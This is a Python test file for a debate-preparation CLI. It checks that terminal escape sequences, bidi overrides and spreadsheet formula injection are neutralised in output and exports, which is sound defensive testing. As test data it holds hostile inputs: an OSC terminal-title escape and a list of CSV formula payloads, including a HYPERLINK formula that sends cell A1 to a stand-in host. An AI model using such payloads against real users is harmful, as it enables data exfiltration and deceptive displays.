"""What the CLI prints and what it exports: imported text and file names never reach the terminal
or an exported file with their escape sequences or bidi overrides (issue 17), a spreadsheet never
runs a cell of our CSV as a formula, and only our own line reaches stderr."""

from __future__ import annotations

import csv
import io
import logging
import shutil
from pathlib import Path

import pytest

from debateprep.cli.common import EscapingStream, one_line
from debateprep.domain.controls import escape_controls
from debateprep.exporters.csv_safe import from_cell, to_cell
from tests.conftest import SAMPLES, CliResult, run_cli
from tests.support.dbs import new_db_url  # noqa: F401 - fixture

SEED = SAMPLES / "concept-note_S-2014-74_poc_lithuania.zh.txt"
OSC_TITLE = "\x1b]0;PWNED\x07"
RED = "\x1b[31m"
RLO = "\u202e"
RAW = ("\x1b", "\x07", "\x9b", RLO, "\u2066", "\r")


def _no_raw(text: str) -> None:
    assert not [c for c in RAW if c in text], ascii(text[:400])


def test_escape_controls_keeps_chinese_and_punctuation() -> None:
    text = "安理会“重申”——[第2594(2021)号]；Côte d'Ivoire… 「」\t\n"
    assert escape_controls(text) == text
    assert escape_controls(f"a{OSC_TITLE}b{RLO}c\r\x00\udcff") == "a\\u001b]0;PWNED\\u0007b\\u202ec\\u000d\\u0000\\udcff"
    assert one_line("two\nlines\ttab") == "two\\u000alines\\u0009tab"


def test_the_escaping_stream_keeps_json_valid() -> None:
    import json

    raw = io.StringIO()
    stream = EscapingStream(raw)
    json.dump({"name": f"{RLO}abc\x85", "zh": "保护平民"}, stream, ensure_ascii=False)
    _no_raw(raw.getvalue())
    assert json.loads(raw.getvalue()) == {"name": f"{RLO}abc\x85", "zh": "保护平民"}


@pytest.fixture
def hostile(sqlite_cli, tmp_path: Path):  # type: ignore[no-untyped-def]
    """A debate whose note came from a file named with an escape sequence, with a speaker and a
    PRST paragraph carrying a bidi override."""
    note = tmp_path / f"note{RED}{OSC_TITLE}.txt"
    shutil.copy(SEED, note)
    first = sqlite_cli(["import", note])
    assert first.exit_code == 0, first.stderr
    assert sqlite_cli(["speakers", "add", "1", f"Mr. {RLO}evil{OSC_TITLE}", "--person"]).exit_code == 0
    assert sqlite_cli(["prst", "new", "1", "--lang", "zh"]).exit_code == 0
    assert sqlite_cli(["prst", "add", "1", "--text", f"安全理事会重申{RLO}维和基本原则。"]).exit_code == 0
    return sqlite_cli, note


def test_success_lines_show_and_already_imported_print_nothing_raw(hostile) -> None:  # type: ignore[no-untyped-def]
    cli, note = hostile
    outputs: list[CliResult] = [
        cli(["import", note]),  # "already imported" names the file given
        cli(["notes"]), cli(["show", "1"]), cli(["debate", "list"]),
        cli(["speakers", "list", "1"]), cli(["speakers", "order", "1"]), cli(["speakers", "list", "1", "--json"]),
        cli(["prst", "show", "1"]), cli(["statements", "coverage", "1"]),
        cli(["speakers", "add", "1", f"x{OSC_TITLE}", "--person", "--title", f"{RLO}t"]),
    ]
    for result in outputs:
        _no_raw(result.stdout + result.stderr)
    assert "already imported" in outputs[0].stdout and "\\u001b[31m" in outputs[0].stdout
    assert "\\u202e" in outputs[4].stdout and "保护平民" in outputs[2].stdout
    assert "\\u202e" in outputs[7].stdout and "安全理事会重申" in outputs[7].stdout


@pytest.mark.parametrize("args", [["export", "brief", "1"], ["export", "brief", "1", "--html"],
                                  ["prst", "export", "1"], ["prst", "export", "1", "--annotated"],
                                  ["speakers", "export", "1"]])
def test_exports_write_bidi_overrides_visibly(hostile, tmp_path: Path, args: list[str]) -> None:  # type: ignore[no-untyped-def]
    cli, _note = hostile
    target = tmp_path / "out.txt"
    result = cli([*args, "-o", target])
    assert result.exit_code == 0, result.stderr
    content = target.read_text(encoding="utf-8")
    _no_raw(content)
    assert "u202e" in content
    assert "安全理事会" in content or "speakers" in args


def test_speakers_csv_cells_are_never_formulas_and_round_trip(sqlite_cli, tmp_path: Path) -> None:
    assert sqlite_cli(["debate", "new", "Protection of civilians", "--date", "2014-02-12"]).exit_code == 0
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tstarts with tab",
               "'=already quoted", "''=twice", "'plain apostrophe", "＝全角", "normal 保护平民"]
    for i, notes in enumerate(hostile):
        added = sqlite_cli(["speakers", "add", "1", f"Person {i}", "--person", f"--notes={notes}",
                            f"--representative={notes if i < 4 else 'Ms. A'}"])
        assert added.exit_code == 0, added.stderr
    out = tmp_path / "list.csv"
    assert sqlite_cli(["speakers", "export", "1", "-o", out]).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [c for row in rows for c in row.values() if c]
    assert not [c for c in cells if c[:1] in "=+-@\t\r＝"], cells
    assert rows[0]["notes"] == "'" + hostile[0]

    assert sqlite_cli(["debate", "new", "Another debate", "--date", "2014-02-12"]).exit_code == 0
    imported = sqlite_cli(["speakers", "import", "2", out])
    assert imported.exit_code == 0, imported.stderr
    back = sqlite_cli(["speakers", "list", "2", "--json"]).json()
    stored = {r["delegation"]: r["notes"] for r in back}  # type: ignore[union-attr]
    expected = {f"Person {i}": notes.strip() for i, notes in enumerate(hostile)}
    assert stored == expected
    reps = {r["delegation"]: r["representative"] for r in back}  # type: ignore[union-attr]
    assert reps["Person 0"] == hostile[0] and reps["Person 3"] == hostile[3]


@pytest.mark.parametrize("value", ["=1", "'=1", "''=1", "'", "''", "-", "@", "a=b", "'a", "", "＠x", "'\t", "x'"])
def test_cell_round_trip(value: str) -> None:
    assert from_cell(to_cell(value)) == value
    assert to_cell(value)[:1] not in "=+-@\t\r＝＠" or to_cell(value) == ""


@pytest.mark.postgres
def test_a_failed_restore_on_postgresql_prints_only_our_line(new_db_url, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """A psycopg pipeline that fails logs "error ignored terminating <psycopg.Pipeline …>" on
    psycopg's logger, which Python prints to stderr when nothing is configured (issue 17: a failed
    restore showed that line). Stand-in for psycopg's own failing exit: log it as psycopg does."""
    import psycopg

    from debateprep.services.debates import DebateService
    from debateprep.storage.db import open_database

    import json

    source = open_database(new_db_url("sqlite"))
    DebateService(source).create("保护平民")
    DebateService(source).create("Protection of civilians")
    assert run_cli(["backup", tmp_path / "b.json"], source.url).exit_code == 0
    backup = json.loads((tmp_path / "b.json").read_text(encoding="utf-8"))
    debates = next(t for t in backup["tables"] if t["name"] == "debates")
    debates["rows"][1][0] = debates["rows"][0][0]  # the same id twice: the server refuses the insert
    (tmp_path / "b.json").write_text(json.dumps(backup), encoding="utf-8")
    original = psycopg.Cursor.execute
    psycopg_log = logging.getLogger("psycopg")

    def execute(self, query, params=None, **kwargs):  # type: ignore[no-untyped-def]
        try:
            return original(self, query, params, **kwargs)
        except psycopg.Error as exc:
            psycopg_log.warning("error ignored terminating %r: %s", "<psycopg.Pipeline [BAD]>", "pipeline aborted")
            raise exc

    monkeypatch.setattr(psycopg.Cursor, "execute", execute)
    root_handlers = list(logging.getLogger().handlers)
    logging.getLogger().handlers.clear()  # as in a real run: no handler, so Python's last resort prints
    try:
        result = run_cli(["restore", tmp_path / "b.json"], new_db_url("postgresql"))
    finally:
        logging.getLogger().handlers[:] = root_handlers
    assert result.exit_code == 2
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("debateprep: error: "), result.stderr
    assert "pipeline" not in result.stderr
